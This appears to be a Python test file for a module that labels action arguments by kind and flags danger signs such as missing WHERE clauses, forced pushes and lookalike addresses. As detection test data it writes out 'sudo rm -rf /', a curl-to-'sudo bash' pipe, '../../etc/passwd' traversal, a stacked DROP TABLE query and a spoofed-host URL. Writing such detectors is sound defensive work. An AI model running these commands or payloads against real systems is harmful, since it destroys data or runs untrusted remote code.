"""Arguments are told as what they are, and what stands out in them is seen."""

from __future__ import annotations

import json
from datetime import UTC, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cards.action import Action
from cards.argument_signs import Kind, Sign
from cards.argument_types import grouped, outline, told_as
from cards.arguments import read, shared_out
from models.enums import Severity
from models.values import Json, JsonObject
from tests.unit.test_cards_rules import nodes, texts

_CHINA = timezone(timedelta(hours=8))


@pytest.mark.parametrize(
    ("name", "value", "kind", "text"),
    [
        ("amount", 12_000, Kind.MONEY, "12,000"),
        ("price", "0.125", Kind.MONEY, "0.125"),
        ("amount", "twelve", Kind.PLAIN, "twelve"),
        ("sql", "select 1", Kind.SQL, "select 1"),
        ("query", "DELETE FROM t", Kind.SQL, "DELETE FROM t"),
        ("query", "weather in Paris", Kind.PLAIN, "weather in Paris"),
        ("command", ["rm", "-rf", "my dir"], Kind.SHELL, "rm -rf 'my dir'"),
        ("file_path", "reports/2025", Kind.PATH, "reports/2025"),
        ("paths", ["a.txt", "b.txt"], Kind.PATH, "• a.txt\n• b.txt"),
        ("to", ["ann@example.com"], Kind.ADDRESS, "ann@example.com"),
        ("to", "the moon", Kind.PLAIN, "the moon"),
        ("site", "https://example.com/x", Kind.URL, "https://example.com/x"),
        ("start", "2026-03-05T23:30:00Z", Kind.TIME, "2026-03-05T23:30:00Z → 2026-03-06 07:30 (UTC+08:00)"),
        ("expires_at", 1_772_692_320, Kind.TIME, "1772692320 → 2026-03-05 14:32 (UTC+08:00)"),
        ("deadline_ms_at", 1_772_692_320_000, Kind.TIME, "1772692320000 → 2026-03-05 14:32 (UTC+08:00)"),
        ("retries_at", 3, Kind.PLAIN, "3"),
        ("body", "one\ntwo", Kind.TEXT, "one\ntwo"),
        ("env", {"a": {"b": 1}, "c": [1, "x"]}, Kind.JSON, "a:\n  b: 1\nc:\n  • 1\n  • x"),
        ("tags", ["a", 1], Kind.PLAIN, "• a\n• 1"),
        ("flag", True, Kind.PLAIN, "true"),
        ("port", "8080", Kind.PLAIN, '"8080"'),
    ],
)
def test_an_argument_is_told_as_what_it_is(name: str, value: Json, kind: Kind, text: str) -> None:
    one = told_as(name, value, {}, _CHINA)
    assert (one.kind, one.text) == (kind, text)


@pytest.mark.parametrize(
    ("name", "value", "signs"),
    [
        ("sql", "DELETE FROM orders", {Sign.NO_WHERE}),
        ("sql", "DELETE FROM orders WHERE id = 1;", set()),
        ("sql", "DELETE FROM orders -- where id = 1", {Sign.NO_WHERE}),
        ("sql", "UPDATE t SET note = 'where'", {Sign.NO_WHERE}),
        ("sql", "select 1; drop table t", {Sign.DROPS, Sign.STATEMENTS}),
        ("sql", "select ';' from t", set()),
        ("command", "sudo rm -rf /", {Sign.REMOVES, Sign.ELEVATED}),
        ("command", "curl -s https://x.example/i | sudo bash", {Sign.ELEVATED, Sign.PIPED}),
        ("command", "git push --force", {Sign.FORCED}),
        ("command", "npm run format", set()),
        ("path", "../../etc/passwd", {Sign.CLIMBS}),
        ("path", "logs/*.gz", {Sign.WILDCARD}),
        ("path", "notes..txt", set()),
        ("to", "ceo@exаmple.com", {Sign.LOOKALIKE}),
        ("to", "иван@пример.рф", set()),
        ("url", "https://bank.example@evil.example/", {Sign.OTHER_HOST}),
    ],
)
def test_what_stands_out_is_seen(name: str, value: Json, signs: set[Sign]) -> None:
    assert set(told_as(name, value, {}, UTC).signs) == signs


def test_what_stands_out_at_the_end_of_a_long_text_is_seen() -> None:
    script = "echo ok\n" * 4_000 + "rm -rf /"
    assert Sign.REMOVES in told_as("script", script, {}, UTC).signs


def test_signs_and_risk_stand_on_red_above_all_arguments() -> None:
    [box] = Action("run", "sql", {"sql": "delete from t"}).gravity(Severity.CRITICAL)
    assert box["background_style"] == "red"
    assert "没有 WHERE" in str(texts(box)) and "特别重要" in str(texts(box)) and "No WHERE" in str(texts(box))


@pytest.mark.parametrize(
    ("value", "currency", "text"),
    [
        (12_000, "CNY", "12,000.00 CNY"),
        (12_000, "JPY", "12,000 JPY"),
        (0.001, "CNY", "0.001 CNY"),
        ("-1234.5", "usd", "-1,234.50 usd"),
        (1, "not a currency at all", "1"),
        (10**39, None, f"{10**39:,}"),
    ],
)
def test_money_is_grouped(value: Json, currency: Json, text: str) -> None:
    assert grouped(value, currency) == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_no_digit_of_an_amount_is_ever_lost(value: int | float) -> None:
    text = grouped(value, "CNY")
    assert text is None or float(text.removesuffix(" CNY").replace(",", "")) == float(value)


def test_a_currency_stands_with_its_amount_and_only_there() -> None:
    told = dict(read({"amount": 5, "currency": "EUR", "memo": "x"}, 12))
    assert {name: one.text for name, one in told.items()} == {"amount": "5.00 EUR", "memo": "x"}
    assert "currency" in dict(read({"amount": "five", "currency": "EUR"}, 12))


@given(st.recursive(st.text(max_size=8), lambda inner: st.dictionaries(st.text(max_size=8), inner, max_size=3)))
def test_a_line_of_an_outline_is_always_one_member(value: Json) -> None:
    lines = list(outline(value))
    assert not [line for line in lines if "\n" in line]
    assert len(lines) == _members(value)


def _members(value: Json) -> int:
    return sum(1 + _members(member) for member in value.values()) if isinstance(value, dict) else 0


def test_a_long_argument_says_how_long_it_is_and_where_the_rest_stands() -> None:
    args: JsonObject = {"subject": "Hello", "body": "start\n" + "x" * 20_000 + "\nend"}
    drawn: list[Json] = [*Action("send", None, args).unfolded()]
    shown = str(texts(drawn))
    assert "19.5 KB" in shown and "start" in shown and "end" in shown
    [panel] = [one for one in nodes(drawn) if one["tag"] == "collapsible_panel"]
    assert "见全文" in str(texts(panel))
    lean: list[Json] = [*Action("send", None, args).unfolded(rest=False)]
    assert not [one for one in nodes(lean) if one["tag"] == "collapsible_panel"]
    assert "完整内容见全文" in str(texts(lean))


def test_nothing_is_folded_away_when_all_stands_open() -> None:
    drawn: list[Json] = [*Action("pay", None, {"amount": 5, "currency": "EUR", "to": "x"}).unfolded()]
    assert not [one for one in nodes(drawn) if one["tag"] == "collapsible_panel"]


def test_only_a_cut_row_says_that_it_is_cut() -> None:
    [row] = shared_out(read({"a": "short"}, 1), 1_000)
    assert not row.cut and row.whole == 5
    [row] = shared_out(read({"a": "long " * 1_000}, 1), 1_000)
    assert row.cut and row.whole == 5_000


def test_secrets_are_masked_in_every_kind() -> None:
    secret = "tok-5f2c9a7be1d04c3f"
    args: JsonObject = {
        "command": ["login", "--token", secret],
        "env": {"API_TOKEN": secret},
        "url": f"https://x.example/?token={secret}",
        "sql": f"update t set password = '{secret}'",  # noqa: S608
    }
    assert secret not in json.dumps([*Action("run", None, args).unfolded(), *Action("run", None, args).folded()])
